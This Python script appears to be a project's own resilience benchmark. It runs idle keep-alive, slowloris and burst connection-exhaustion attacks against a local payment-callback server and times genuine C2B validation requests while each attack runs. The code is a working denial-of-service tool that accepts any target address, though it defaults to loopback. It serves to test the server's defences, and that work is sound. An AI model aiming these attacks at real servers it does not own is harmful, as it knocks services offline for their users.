#!/usr/bin/env python3
"""Tries to hold every connection place of a pesakit server, then times a
real callback: the attack of issue 12, point 1, at the server's defaults.

  python3 benches/attacks/hold_the_cap.py [HOST:PORT]   (default 127.0.0.1:3000)

Against `cargo run --release --example quickstart`. Three attacks, each
followed by ten C2B validations from an address of their own, timed from
connect to answer:

- idle: 1,100 keep-alive connections from nine addresses, each sending one
  small request every 8 s (each resets the idle clock), reconnecting
  whenever the server cuts one;
- slowloris: the same connections, each sending one header line every 8 s
  and never finishing a request;
- burst: 2,600 connections opened at once, each sending nothing.

Loopback only: 127.x.y.z are all this machine.
"""

import asyncio
import statistics
import sys
import time

TARGET = (sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1:3000").rsplit(":", 1)
HOST, PORT = TARGET[0], int(TARGET[1])
VALIDATION = (
    b'{"TransactionType":"Pay Bill","TransID":"RKL51ZDR4F","TransTime":"20231121121325",'
    b'"TransAmount":"5.00","BusinessShortCode":"600966","BillRefNumber":"Sample","InvoiceNumber":"",'
    b'"OrgAccountBalance":"","ThirdPartyTransID":"","MSISDN":"2547 ***** 126","FirstName":"NICHOLAS",'
    b'"MiddleName":"","LastName":""}'
)


async def connect(source):
    return await asyncio.open_connection(HOST, PORT, local_addr=(source, 0))


async def hold(source, kind, stop):
    """One attacker connection, reopened whenever the server cuts it."""
    while not stop.is_set():
        try:
            reader, writer = await connect(source)
            round_ = 0
            while not stop.is_set():
                if kind == "idle":
                    writer.write(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
                    await writer.drain()
                    await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
                    await reader.read(256)
                elif kind == "slowloris":
                    line = b"POST /callbacks/stk HTTP/1.1\r\n" if round_ == 0 else b"X-%d: a\r\n" % round_
                    writer.write(line)
                    await writer.drain()
                else:
                    # A one-off burst: a cut connection is not reopened.
                    await asyncio.wait_for(reader.read(1), 30)
                    return
                round_ += 1
                await asyncio.sleep(8)
        except (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError):
            pass
        await asyncio.sleep(0.05)


async def real_callback():
    started = time.monotonic()
    reader, writer = await connect("127.0.9.1")
    writer.write(
        b"POST /callbacks/c2b/validation HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
        b"Content-Length: %d\r\n\r\n%s" % (len(VALIDATION), VALIDATION)
    )
    await writer.drain()
    status = await asyncio.wait_for(reader.readline(), 60)
    elapsed = time.monotonic() - started
    writer.close()
    return status.decode().strip(), elapsed


async def attack(kind, connections, addresses):
    stop = asyncio.Event()
    sources = ["127.0.%d.%d" % (10 + index // 200, 1 + index % 200) for index in range(addresses)]
    tasks = [asyncio.create_task(hold(sources[index % addresses], kind, stop)) for index in range(connections)]
    await asyncio.sleep(3)
    times = []
    for _ in range(10):
        status, elapsed = await real_callback()
        assert status.startswith("HTTP/1.1 200"), status
        times.append(elapsed * 1000)
        await asyncio.sleep(0.3)
    stop.set()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(
        "%-9s %5d connections from %3d addresses: real callback answered in median %.1f ms, max %.1f ms"
        % (kind, connections, addresses, statistics.median(times), max(times))
    )
    await asyncio.sleep(1)


async def main():
    await attack("idle", 1100, 9)
    await attack("slowloris", 1100, 9)
    await attack("burst", 2600, 2600)


asyncio.run(main())
